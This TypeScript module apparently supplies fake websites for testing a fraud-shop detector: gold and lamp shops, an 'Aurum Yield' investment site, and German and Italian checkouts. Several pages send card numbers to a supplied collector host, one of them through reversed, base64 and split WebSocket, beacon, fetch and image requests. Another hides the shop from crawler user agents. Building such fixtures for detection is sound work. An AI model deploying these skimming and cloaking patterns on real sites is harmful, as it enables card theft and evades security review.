import type { FakeSite, SiteAnswer } from './fake-sites.ts'

const page = (title: string, body: string) =>
  `<!doctype html><html><head><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`

const PERSON = `<input name="email" placeholder="E-mail"><input name="name" placeholder="Full name">
<input name="address" placeholder="Address"><input name="zip" placeholder="ZIP code">`
const CARD = `<input name="cardnumber" autocomplete="cc-number" placeholder="Card number">
<input name="exp" placeholder="MM / YY"><input name="cvc" placeholder="CVC">`

/** Pages from the product to the checkout, every link an honest one; the checkout is given. */
function shopPages(checkout: string): Record<string, SiteAnswer> {
  return {
    '/': page('Gold shop', '<ul><li><a href="/product/gold-bar">Gold bar</a> $199.00</li></ul>'),
    '/product/gold-bar': page(
      'Gold bar',
      '<p>$199.00</p><form action="/cart"><button>Add to cart</button></form>',
    ),
    '/cart': page('Your cart', '<a href="/checkout">Proceed to checkout</a>'),
    '/checkout': page('Checkout', checkout),
  }
}

/** Cards go to a host of the operator's own. */
export function directShop(collector: string): Record<string, SiteAnswer> {
  return shopPages(
    `<form method="post" action="${collector}">${PERSON}${CARD}<button>Pay now</button></form>`,
  )
}

/** The card form is somebody else's frame, as real processors have it. */
export function framedShop(frame: string, script = ''): Record<string, SiteAnswer> {
  return shopPages(
    `${script}<form action="/contact">${PERSON}</form><iframe src="${frame}" width="400" height="300"></iframe>`,
  )
}

/** What stands in such a frame: it sends the card with fetch. */
export function cardFrame(target: string): string {
  return page(
    'Card',
    `<form id="f">${CARD}<button>Pay</button></form><script>
    document.getElementById('f').onsubmit = (event) => {
      event.preventDefault()
      const number = document.querySelector('[name=cardnumber]').value
      fetch(${JSON.stringify(target)}, { method: 'POST', body: JSON.stringify({ card: { number } }) })
    }</script>`,
  )
}

/** A crawler sees a blog, a shopper the shop. */
export function cloakedShop(shop: Readonly<Record<string, SiteAnswer>>): FakeSite {
  return ({ url, headers }) =>
    /bot|crawl|spider|headless/i.test(headers['user-agent'] ?? '')
      ? page('My garden', '<p>Tulips are in bloom.</p>')
      : (shop[url.replace(/\?.*$/, '')] ?? null)
}

/** No cart: an account is opened and money is put into it. */
export function investmentSite(collector: string): Record<string, SiteAnswer> {
  return {
    '/': page('Aurum Yield', '<p>12 % a year</p><a href="/register">Start investing</a>'),
    '/register': page(
      'Open account',
      `<form action="/deposit">${PERSON}<input type="password" name="password">
      <label><input type="checkbox" name="ok"> I agree to the terms</label><button>Create account</button></form>`,
    ),
    '/deposit': page(
      'Deposit',
      '<form action="/pay"><input name="amount" placeholder="Amount"><button>Deposit now</button></form>',
    ),
    '/pay': page(
      'Pay',
      `<form method="post" action="${collector}"><p>Visa and Mastercard</p>${CARD}<button>Confirm deposit</button></form>`,
    ),
  }
}

/** One page that builds itself, German, with guest checkout; the card leaves in three ways, coded. */
export function singlePageShop(collector: string): Record<string, SiteAnswer> {
  const script = `
    const root = document.getElementById('root')
    const show = (html) => { root.innerHTML = html }
    const on = (id, work) => { document.getElementById(id).onclick = work }
    const start = () => {
      show('<div class=product>Goldbarren 199,00 € <button id=add>In den Warenkorb</button></div>')
      on('add', () => fetch('/api/cart', { method: 'POST', body: '{"sku":1}' }).then((r) => r.json()).then(() => setTimeout(cart, 120)))
    }
    const cart = () => {
      show('<p>1 Artikel</p><button id=go>Zur Kasse</button>')
      on('go', () => setTimeout(person, 50))
    }
    const person = () => {
      show('<button id=guest>Als Gast bestellen</button>')
      on('guest', () => {
        show('<form id=p onsubmit="return false"><input name=email placeholder=E-Mail><input name=vorname placeholder=Vorname><input name=nachname placeholder=Nachname><button>Weiter</button></form>')
        document.getElementById('p').addEventListener('submit', card)
      })
    }
    const card = () => {
      show('<label><input type=radio name=m id=cc> Kreditkarte</label><label><input type=radio name=m> Rechnung</label><div id=c></div>')
      on('cc', () => {
        document.getElementById('c').innerHTML =
          '<input id=n placeholder=Kartennummer><input placeholder="MM/JJ"><input placeholder=Prüfziffer><button id=pay>Jetzt kaufen</button>'
        on('pay', () => {
          const n = document.getElementById('n').value
          const socket = new WebSocket(${JSON.stringify(collector.replace(/^http/, 'ws'))} + '/ws')
          socket.onopen = () => socket.send(n.split('').reverse().join(''))
          navigator.sendBeacon(${JSON.stringify(collector)} + '/b', btoa(JSON.stringify({ n })))
          fetch(${JSON.stringify(collector)} + '/f', { method: 'POST', body: new URLSearchParams({ a: n.slice(0, 4), b: n.slice(4, 8), c: n.slice(8, 12), d: n.slice(12) }) })
          new Image().src = ${JSON.stringify(collector)} + '/i.gif?d=' + encodeURIComponent(n.match(/.{4}/g).join(' '))
        })
      })
    }
    setTimeout(start, 150)`
  return { '/': page('Gold', `<div id="root"></div><script>${script}</script>`) }
}

/** Older shop software: every step is a form that is posted, and the server keeps the cart. */
export function postingShop(): Record<string, SiteAnswer> {
  return {
    '/': page('Shop', '<div class="item"><a href="/item?id=7">Ring</a> 49,90 €</div>'),
    '/item': page(
      'Ring',
      '<form method="post" action="/cart.php"><input type="hidden" name="add-to-cart" value="7"><input type="submit" value="Aggiungi al carrello"></form>',
    ),
    '/cart.php': page('Carrello', '<a href="/cassa">Vai alla cassa</a>'),
    '/cassa': page(
      'Cassa',
      `<form method="post" action="/pagamento">${PERSON}<select name="country"><option value="">-</option><option>IT</option></select><button>Prosegui</button></form>`,
    ),
    '/pagamento': page(
      'Pagamento',
      `<form method="post" action="/conferma"><input name="card1" maxlength="4"><input name="card2" maxlength="4"><input name="card3" maxlength="4"><input name="card4" maxlength="4">
      <select name="exp_month"><option>01</option><option>12</option></select><input name="exp_year" maxlength="2"><input name="cvv"><button>Paga</button></form>`,
    ),
  }
}

/**
 * A shop on a commerce platform: the cart is filled by script, its pages are the platform's, and the
 * card form is a frame of the platform's own processor.
 */
export function platformShop(frame: string): FakeSite {
  let inCart = 0
  const product = page(
    'Lamp',
    `<form action="/cart/add" method="post"><input type="hidden" name="id" value="4411">
    <button id="add" type="button">Add to cart</button></form><div id="drawer"></div><script>
    document.getElementById('add').onclick = () => fetch('/cart/add.js', { method: 'POST', body: new FormData(document.forms[0]) })
      .then(() => { document.getElementById('drawer').innerHTML = '<a href="/cart">View cart</a>' })</script>`,
  )
  return ({ url, method }, response) => {
    if (url === '/') return page('Lamps', '<li><a href="/products/lamp">Lamp</a> €49</li>')
    if (url === '/products/lamp') return product
    if (method === 'GET' && /^\/cart\/\d+:1$/.test(url)) {
      inCart += 1
      response.writeHead(302, { location: '/checkouts/c1' }).end()
      return undefined
    }
    if (url === '/checkouts/c1' && inCart > 0) {
      return page(
        'Checkout',
        `<script>Shopify = {"shop":"lamp-store.myshopify.com"}</script><form action="/address">${PERSON}</form>
        <iframe src="${frame}" width="400" height="300"></iframe><button>Pay now</button>`,
      )
    }
    return url === '/cart' ? page('Your cart is empty', '<p>Nothing here.</p>') : null
  }
}
